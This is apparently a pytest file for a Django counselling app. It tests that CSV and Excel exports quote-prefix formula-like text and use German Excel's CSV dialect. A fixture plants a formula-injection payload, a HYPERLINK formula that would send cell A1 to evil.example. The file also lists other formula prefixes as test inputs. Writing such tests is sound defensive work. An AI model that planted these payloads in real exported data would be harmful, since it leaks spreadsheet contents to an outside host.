"""Downloads never carry live formulas; CSV opens in German Excel (issue 14)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from counselling.spreadsheet import csv_text, safe_cell
from tests.counselling.factory import make_centre, make_client, make_consultation, make_counsellor

pytestmark = pytest.mark.django_db
PERIOD = {"start": "2025-01-01", "end": "2025-12-31"}
FORMULAS = ["=HYPERLINK(\"http://x\")", "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rReturn"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_text_that_starts_like_a_formula_is_made_text(formula):
    assert safe_cell(formula) == "'" + formula


def test_numbers_and_plain_text_stay_as_they_are():
    assert safe_cell(-3) == -3
    assert safe_cell(2.5) == 2.5
    assert safe_cell("Syrien") == "Syrien"


def test_csv_is_in_german_excels_dialect_with_a_comma_option():
    rows = [["Land", "Anteil"], ["Syrien", 54.5], ["A;B", 3]]
    german = csv_text(rows)
    assert german.startswith("\ufeff")
    assert german.splitlines() == ["\ufeffLand;Anteil", "Syrien;54,5", '"A;B";3']
    assert csv_text(rows, ",").splitlines()[1] == "Syrien,54.5"


@pytest.fixture
def formula_network(network_a):
    network_a.short_name = '=HYPERLINK("http://evil.example/?"&A1,"Netz")'
    network_a.save()
    centre = make_centre(network_a, "@SUM(1+1)")
    counsellor = make_counsellor(centre, username="formula_counsellor")
    for _ in range(6):
        make_consultation(make_client(network_a), "2025-03-01", centre=centre)
    return counsellor


def _cells(response):
    return [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")),
                                    delimiter=";") for c in row]  # fmt: skip


def test_the_figures_csv_and_xlsx_carry_no_live_formula(client, formula_network):
    client.force_login(formula_network)
    response = client.get(reverse("counselling:export", args=["networks", "csv"]), PERIOD)
    assert response.status_code == 200
    cells = _cells(response)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    workbook = load_workbook(
        io.BytesIO(client.get(reverse("counselling:export", args=["all", "xlsx"]), PERIOD).content)
    )
    values = [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row]
    texts = [v for v in values if isinstance(v, str)]
    assert not [v for v in texts if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(v.startswith("'=HYPERLINK") for v in texts)


def test_the_monitoring_export_carries_no_live_formula(client, formula_network):
    client.force_login(formula_network)
    response = client.get(reverse("counselling:monitoring", args=["csv"]), PERIOD)
    cells = _cells(response)
    assert "'@SUM(1+1)" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    workbook = load_workbook(io.BytesIO(
        client.get(reverse("counselling:monitoring", args=["xlsx"]), PERIOD).content))  # fmt: skip
    values = [c.value for s in workbook for r in s.iter_rows() for c in r]
    texts = [v for v in values if isinstance(v, str)]
    assert "'@SUM(1+1)" in texts
    assert not [v for v in texts if v.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_comma_option_gives_commas(client, formula_network):
    client.force_login(formula_network)
    response = client.get(
        reverse("counselling:export", args=["summary", "csv"]), {**PERIOD, "separator": "comma"}
    )
    first = response.content.decode("utf-8-sig").splitlines()[0]
    assert "," in first
    assert ";" not in first
